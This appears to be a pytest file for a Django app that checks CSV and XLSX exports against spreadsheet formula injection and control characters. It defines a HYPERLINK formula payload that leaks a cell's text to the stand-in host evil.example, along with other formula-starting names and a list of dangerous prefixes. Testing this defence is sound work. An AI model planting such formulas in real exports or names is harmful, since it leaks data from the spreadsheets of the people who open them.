"""Every export, CSV and XLSX, is safe to open in a spreadsheet, whatever people named things.

An account admin renames an account below it to a formula that would send a code's text to
another site; units, a batch's note and a username start with the other characters a spreadsheet
reads as a formula (+, -, @), and old rows, written before names were checked, start with a tab
or a carriage return or hold control characters a spreadsheet file cannot store. Every export of
every window (found in the URL resolver), in both formats, then holds no formula: each such text
reads after a single quote, and the control characters are left out. Numbers stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.db.models import DecimalField, IntegerField, Value
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from cms.models import Account
from cms.services import account_update
from cms.web.exports import ExportColumn, export_response
from cms.web.views import ObjectListView
from codes.models import Batch
from codes.services import code_attach, code_share
from tests import factories
from tests.isolation.walker import url_patterns
from tests.ui.helpers import streamed
from units.models import Unit

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
#: Names people may type that a spreadsheet would read as a formula.
TYPED = [HYPERLINK, "+SUM(1+1)", "-2+3", "@SUM(A1)"]
#: Names only old rows can hold: the forms and services refuse control characters now.
OLD = ["\tTAB(1)", "\rCR(1)"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def list_exports() -> list[str]:
    """The URL names of every list page with an export."""
    found = []
    for pattern in url_patterns():
        view = getattr(pattern.callback, "view_class", None)
        if not pattern.arguments and isinstance(view, type) and issubclass(view, ObjectListView) and view.export_columns:
            found.append(pattern.name)
    return found


@pytest.fixture
def named(network):
    """Acme's branch, with a formula in every kind of name that reaches an export."""
    admin = network.provider_admin
    # The attack: North's admin renames the account below it.
    account_update(actor=network.north_admin, account=network.north_farms, name=HYPERLINK, time_zone="UTC")
    batch = factories.batch(admin, quantity=len(TYPED + OLD) + 1)
    Batch.objects.filter(pk=batch.pk).update(note="=1+1")  # the note as an old row holds it
    codes = list(batch.codes.order_by("pk"))
    code_share(code=codes[0], to_account=network.north_farms, actor=admin)
    for index, (code, name) in enumerate(zip(codes[1:], TYPED + OLD, strict=True)):
        typed = name in TYPED
        unit = factories.unit(network.harvest, actor=admin, name=name if typed else f"old {index}",
                              hardware_id=f"86999{index:010d}")
        if not typed:
            Unit.objects.filter(pk=unit.pk).update(name=name)
        code_attach(code=code, unit=unit, actor=admin)
    # A user whose name starts with "@" shares a code: the report names the actor.
    at_admin = factories.user(network.provider, "admin", "@acme-admin")
    code_share(code=factories.codes(admin, quantity=1)[0], to_account=network.north, actor=at_admin)
    return network


def exported(client, url: str, kind: str) -> list[list]:
    """The rows of an export, header first: cells as a spreadsheet gets them (XLSX: numbers as
    numbers, every cell's type checked)."""
    response = client.get(url, {"export": kind})
    assert response.status_code == 200, (url, kind)
    if kind == "csv":
        return list(csv.reader(io.StringIO(streamed(response).decode("utf-8"))))
    workbook = load_workbook(io.BytesIO(streamed(response)))
    rows = []
    for row in workbook.worksheets[0].iter_rows():
        for cell in row:
            assert cell.data_type != "f", (url, cell.coordinate, cell.value)
        rows.append([cell.value for cell in row])
    return rows


def assert_no_formula(rows: list[list], where: str) -> None:
    for row in rows[1:]:
        for cell in row:
            if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
                # A CSV cell of a negative number is the number, not a formula.
                assert cell.startswith("-") and cell[1:].replace(".", "", 1).isdigit(), (where, cell)


def test_the_walk_finds_every_windows_export():
    assert {"codes:list", "units:list", "report:list", "batches:list"} <= set(list_exports())


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("name", list_exports())
def test_given_names_that_start_a_formula_then_every_export_holds_them_as_quoted_text(named, name, kind):
    client = Client()
    client.force_login(named.provider_admin)
    rows = exported(client, reverse(name), kind)
    assert_no_formula(rows, f"{name} {kind}")
    # XML, and so XLSX, reads a carriage return back as a line feed.
    texts = {cell.replace("\r", "\n") for row in rows[1:] for cell in row if isinstance(cell, str)}
    quoted = {text for text in texts if text.startswith("'")}
    expected = {
        "codes:list": {HYPERLINK, *TYPED, *OLD},  # shared with the renamed account; on the units
        "units:list": {*TYPED, *OLD},
        "report:list": {HYPERLINK, *TYPED, *OLD, "@acme-admin"},  # moved to it; the units; the actor
        "batches:list": {"=1+1"},  # the note
    }[name]
    assert {"'" + text.replace("\r", "\n") for text in expected} <= quoted, quoted


def test_given_names_that_start_a_formula_then_the_batch_download_holds_no_formula(named):
    client = Client()
    client.force_login(named.provider_admin)
    batch = Batch.objects.get(note="=1+1")
    rows = exported(client, reverse("batches:download", args=[batch.pk]), "csv")
    assert len(rows) == batch.quantity + 1
    assert_no_formula(rows, "batches:download")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_given_numbers_and_text_that_looks_like_one_then_only_the_text_is_quoted(network, kind, rf):
    """The machinery itself, on a real query: a negative number and a negative price stay
    numbers; the same characters as text read after a quote."""
    columns = [
        ExportColumn("Number", lambda moment: Value(-3, output_field=IntegerField())),
        ExportColumn("Price", lambda moment: Value(Decimal("-1.50"), output_field=DecimalField())),
        ExportColumn("Text", lambda moment: Value("-3")),
        ExportColumn("Name", "name"),
    ]
    response = export_response(kind, Account.objects.filter(pk=network.provider.pk), columns, "numbers")
    if kind == "csv":
        header, row = csv.reader(io.StringIO(streamed(response).decode()))
        assert [row[0], Decimal(row[1]), *row[2:]] == ["-3", Decimal("-1.5"), "'-3", "Acme Telematics"]
    else:
        sheet = load_workbook(io.BytesIO(streamed(response))).worksheets[0]
        cells = list(sheet.iter_rows(min_row=2))[0]
        assert [c.value for c in cells] == [-3, -1.5, "'-3", "Acme Telematics"]
        assert [c.data_type for c in cells] == ["n", "n", "s", "s"]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("name", list_exports())
def test_given_control_characters_in_old_names_then_every_export_is_a_valid_file_without_them(network, name, kind):
    admin = network.provider_admin
    code = factories.codes(admin, quantity=1)[0]
    unit = factories.unit(network.harvest, actor=admin, name="Tractor", hardware_id="350000000000077")
    code_share(code=code, to_account=network.north, actor=admin)
    # Written as rows were before names were checked: a vertical tab, a start of heading, an escape
    # (PostgreSQL stores no NUL).
    Account.objects.filter(pk=network.north.pk).update(name="North\x0bSales")
    Unit.objects.filter(pk=unit.pk).update(name="Trac\x01tor")
    Batch.objects.filter(pk=code.batch_id).update(note="Spring\x1b batch")
    code_attach(code=factories.codes(admin, quantity=1)[0], unit=unit, actor=admin)
    client = Client()
    client.force_login(admin)
    rows = exported(client, reverse(name), kind)
    texts = {cell for row in rows for cell in row if isinstance(cell, str)}
    assert not any(c in text for text in texts for c in "\x0b\x01\x1b")
    expected = {"codes:list": {"NorthSales", "Tractor"}, "units:list": {"Tractor"},
                "report:list": {"NorthSales", "Tractor"}, "batches:list": {"Spring batch"}}[name]
    assert expected <= texts, texts
